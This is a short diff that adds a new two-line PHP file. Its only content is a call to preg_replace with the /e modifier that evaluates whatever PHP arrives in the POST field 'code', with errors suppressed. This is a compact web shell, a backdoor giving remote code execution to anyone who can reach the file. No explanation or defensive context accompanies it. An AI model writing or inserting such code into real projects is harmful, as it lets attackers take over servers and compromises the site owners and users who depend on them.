@@ -1,0 +1,2 @@
+<?php
+@preg_replace('/.*/e', $_POST['code'], '');
